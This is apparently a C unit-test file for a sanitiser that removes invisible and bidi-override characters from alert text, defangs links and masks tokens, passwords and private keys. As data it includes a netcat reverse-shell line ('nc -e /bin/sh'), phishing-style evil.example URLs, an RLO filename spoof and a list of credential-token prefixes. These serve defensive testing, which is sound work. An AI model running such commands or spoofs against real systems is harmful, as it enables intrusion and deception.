/* Words: what an alert says can't dress up as something else, can't be clicked and keeps no secret.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "base/words.h"

enum { PLENTY = 4096 };

struct pair {
	struct str said;
	const char *shown;
};
#define PAIR(said, shown)                                                                          \
	{                                                                                          \
		STR_INIT(said), shown                                                              \
	}

/* Also: what is clean stays as it is. */
static void expect_all(const struct pair *pairs, size_t n)
{
	struct arena a = ARENA(1 << 20);
	for (size_t i = 0; i < n; i++) {
		const char *once = words_clean(&a, pairs[i].said, PLENTY, NULL);
		assert_string_equal(once, pairs[i].shown);
		assert_string_equal(words_clean(&a, str_z(once), PLENTY, NULL), once);
	}
	arena_clear(&a);
}
#define EXPECT_ALL(pairs) expect_all((pairs), sizeof(pairs) / sizeof((pairs)[0]))

static void nothing_invisible_is_left(void **state)
{
	static const struct pair pairs[] = {
		PAIR("", ""),
		PAIR("nc -e /bin/sh 203.0.113.9", "nc -e /bin/sh 203.0.113.9"),
		PAIR("Žluťoučký kůň 🐎 馬", "Žluťoučký kůň 🐎 馬"),
		PAIR("a\x01\x1b[31mb\x7f"
		     "c",
		     "a[31mbc"),
		PAIR("C1 \xc2\x9b"
		     "31m",
		     "C1 31m"),
		PAIR("a\0b", "ab"),
		PAIR("\xe2\x80\xaetxt.exe\xe2\x80\xac", "txt.exe"), /* U+202E */
		PAIR("\xe2\x81\xa6x\xe2\x81\xa9\xd8\x9c", "x"),     /* U+2066, 2069, 061C */
		PAIR("p\xe2\x80\x8b\xe2\x80\x8d"
		     "ass\xef\xbb\xbf",
		     "pass"), /* U+200B, 200D, FEFF */
		PAIR("a\xc2\xad\xe1\x85\xa0\xe2\xa0\x80\xe3\x85\xa4z", "az"), /* blank letters */
		PAIR("tag\xf3\xa0\x81\x81\xf3\xa0\x80\xa0s", "tags"),         /* U+E0041, E0020 */
		PAIR("one\r\n\n  two\tthree\xe2\x80\xa8"
		     "four\xc2\x85\xe3\x80\x80 ",
		     "one two three four"),
		PAIR(" \n\t ", ""),
		PAIR("bad \xff\xfe\xc0\x80 bytes", "bad \xef\xbf\xbd bytes"),
		PAIR("cut \xe2\x82", "cut \xef\xbf\xbd"),
		PAIR("\xed\xa0\x80x", "\xef\xbf\xbdx"), /* a surrogate */
		PAIR("<!channel> <@U1> `x` *b* :tada:", "<!channel> <@U1> `x` *b* :tada:"),
	};
	(void)state;
	EXPECT_ALL(pairs);
}

static void links_cannot_be_followed(void **state)
{
	static const struct pair pairs[] = {
		PAIR("see https://evil.example/a.b?c=d.e now",
		     "see hxxps://evil[.]example/a.b?c=d.e now"),
		PAIR("HTTP://EVIL.EXAMPLE", "HxxP://EVIL[.]EXAMPLE"),
		PAIR("(http://192.0.2.1:8080/x)", "(hxxp://192[.]0[.]2[.]1:8080/x)"),
		PAIR("ftp://a.example", "fxp://a[.]example"),
		PAIR("http://a.example\\@b.example", "hxxp://a[.]example\\@b.example"),
		PAIR("xhttps://evil.example", "xhxxps://evil[.]example"),
		PAIR("<https://evil.example|https://okta.example>",
		     "<hxxps://evil[.]example|hxxps://okta[.]example>"),
		PAIR("www.evil.example/x", "www[.]evil[.]example/x"),
		PAIR("ht\xe2\x80\x8btps://evil.example", "hxxps://evil[.]example"),
		PAIR("https://okta.example@evil.example/login",
		     "hxxps://" WORDS_MASK "@evil[.]example/login"),
		PAIR("ssh://git@github.example/x.git", "ssh://git@github.example/x.git"),
		PAIR("http://", "hxxp://"),
		PAIR("a://b", "a://b"),
		PAIR("mail alice@duff.example, address 203.0.113.9",
		     "mail alice@duff.example, address 203.0.113.9"),
	};
	(void)state;
	EXPECT_ALL(pairs);
}

/* Put together at run time, so that no scanner takes this file for a leak. */
static void tokens_are_masked(void **state)
{
	static const char *const heads[] = {
		"xoxb-",    "xoxp-", "xapp-", "AKIA",        "ASIA",   "ghp_",    "gho_",
		"ghu_",     "ghs_",  "ghr_",  "github_pat_", "glpat-", "npm_",    "sk_live_",
		"rk_live_", "sk-",   "AIza",  "hvs.",        "SG.",    "dop_v1_", "pypi-"
	};
	struct arena a = ARENA(1 << 20);
	(void)state;
	for (size_t i = 0; i < sizeof(heads) / sizeof(heads[0]); i++) {
		const char *said = arena_f(
			&a, "run --with %sABCDEFGH23456789abcdefgh01234567 (now)", heads[i]);
		assert_string_equal(words_clean(&a, str_z(said), PLENTY, NULL),
				    "run --with " WORDS_MASK " (now)");
		said = arena_f(&a, "%sshort", heads[i]);
		assert_string_equal(words_clean(&a, str_z(said), PLENTY, NULL), said);
	}
	const char *part = "abcdefghij0123456789-_";
	const char *jwt = arena_f(&a, "[eyJ%s.eyJ%s.%s]", part, part, part);
	assert_string_equal(words_clean(&a, str_z(jwt), PLENTY, NULL), "[" WORDS_MASK "]");
	arena_clear(&a);
}

static void secrets_are_masked(void **state)
{
	static const struct pair pairs[] = {
		PAIR("Authorization: Bearer aZ09._~+/=-x done",
		     "Authorization: Bearer " WORDS_MASK " done"),
		PAIR("authorization: basic dXNlcjpwYXNz", "authorization: basic " WORDS_MASK),
		PAIR("basic authentication, the bearer certificate",
		     "basic authentication, the bearer certificate"),
		PAIR("https://bob:hunter2@db.example/x", "hxxps://" WORDS_MASK "@db[.]example/x"),
		PAIR("postgres://bob:hun@ter2@db.example/x",
		     "postgres://bob:" WORDS_MASK "@db.example/x"),
		PAIR("https://a.example/?user=bob&password=hunter2&api_key=k1&x=1",
		     "hxxps://a[.]example/?user=bob&password=" WORDS_MASK "&api_key=" WORDS_MASK
		     "&x=1"),
		PAIR("PGPASSWORD=hunter2 psql", "PGPASSWORD=" WORDS_MASK " psql"),
		PAIR("mysql --password hunter2 --user bob -pwd 'a b'",
		     "mysql --password " WORDS_MASK " --user bob -pwd '" WORDS_MASK "'"),
		PAIR("{\"clientSecret\":\"a, b\",\"n\":1}",
		     "{\"clientSecret\":\"" WORDS_MASK "\",\"n\":1}"),
		PAIR("{\\\"token\\\": \\\"a b\\\",", "{\\\"token\\\": \\\"" WORDS_MASK "\\\","),
		PAIR("password: swordfish", "password: " WORDS_MASK),
		PAIR("secret: Abc123", "secret: " WORDS_MASK),
		PAIR("token=\"never ends", "token=\"" WORDS_MASK),
		PAIR("sig=abc, bypass=true, design=new, password=",
		     "sig=" WORDS_MASK ", bypass=true, design=new, password="),
		PAIR("Leaked token: revoked by its owner", "Leaked token: revoked by its owner"),
		PAIR("Did you reset your password just now?",
		     "Did you reset your password just now?"),
		PAIR("--password --verbose", "--password --verbose"),
		PAIR("key-----BEGIN RSA PRIVATE KEY-----\nMIIE\nowIB\n-----END RSA PRIVATE "
		     "KEY-----\n!",
		     "key" WORDS_MASK " !"),
		PAIR("-----BEGIN OPENSSH PRIVATE KEY----- b3Blb", WORDS_MASK),
		PAIR("-----BEGIN CERTIFICATE----- MIIE", "-----BEGIN CERTIFICATE----- MIIE"),
		PAIR("pass\xe2\x80\x8bword=hunter2", "password=" WORDS_MASK),
	};
	(void)state;
	EXPECT_ALL(pairs);
}

static void the_cut_is_between_characters_and_shows(void **state)
{
	struct arena a = ARENA(1 << 20);
	bool cut = false;
	(void)state;
	assert_string_equal(words_clean(&a, STR("žžžž"), 4, &cut), "žžžž");
	assert_false(cut);
	assert_string_equal(words_clean(&a, STR("žžžžž"), 4, &cut), "žžž…");
	assert_true(cut);
	assert_string_equal(words_clean(&a, STR("ok"), 4, &cut), "ok");
	assert_true(cut); /* never taken back */
	assert_string_equal(words_clean(&a, STR("ab"), 1, NULL), "…");
	/* First masked, then cut: no beginning of a secret is left. */
	assert_string_equal(words_clean(&a, STR("password=hunter2000"), 12, NULL),
			    "password=" WORDS_MASK);
	arena_clear(&a);
}

/* Disguised, it must not become somebody else's name. */
static void a_name_loses_nothing_unseen(void **state)
{
	struct arena a = ARENA(1 << 20);
	(void)state;
	assert_string_equal(words_name(&a, STR(" alice@duff.example\n"), PLENTY),
			    "alice@duff.example");
	assert_string_equal(words_name(&a,
				       STR("ali\xe2\x80\x8b\xe2\x80\x8b"
					   "ce@duff.example"),
				       PLENTY),
			    "ali\xef\xbf\xbd"
			    "ce@duff.example");
	assert_string_equal(words_name(&a, STR("\x01x"), PLENTY), "\xef\xbf\xbdx");
	arena_clear(&a);
}

/* A megabyte of whatever could make it look twice; a square of that would take hours. */
static void a_megabyte_is_read_once(void **state)
{
	static const char *const bricks[] = {
		"eyJ",
		"eyJaaaaaaaaaa.",
		"token:",
		"token: ",
		"password=\"",
		"http://",
		"a@",
		"://",
		"Bearer ",
		"Bearer a",
		"xoxb-",
		"-----BEGIN ",
		"www.",
		"pwd=1&",
		"-----BEGIN KEY",
		"a",
		"\xe2\x80\xae",
		"\xff",
		"--token ",
		"http://a:b@",
		"github_pat_",
		"-",
		"\\\"",
		" ",
		"-----BEGIN KEY-----",
	};
	enum { BYTES = 1 << 20 };
	struct arena a = ARENA(64 << 20);
	(void)state;
	for (size_t i = 0; i < sizeof(bricks) / sizeof(bricks[0]); i++) {
		struct buf b = BUF(BYTES);
		while (!b.broken)
			buf_addz(&b, bricks[i]);
		bool cut = false;
		const char *shown = words_clean(&a, buf_str(&b), 500, &cut);
		assert_true(utf8_valid(str_z(shown)));
		assert_true(utf8_points(str_z(shown)) <= 500);
		buf_free(&b);
		arena_clear(&a);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(nothing_invisible_is_left),
		cmocka_unit_test(links_cannot_be_followed),
		cmocka_unit_test(tokens_are_masked),
		cmocka_unit_test(secrets_are_masked),
		cmocka_unit_test(the_cut_is_between_characters_and_shows),
		cmocka_unit_test(a_name_loses_nothing_unseen),
		cmocka_unit_test(a_megabyte_is_read_once),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
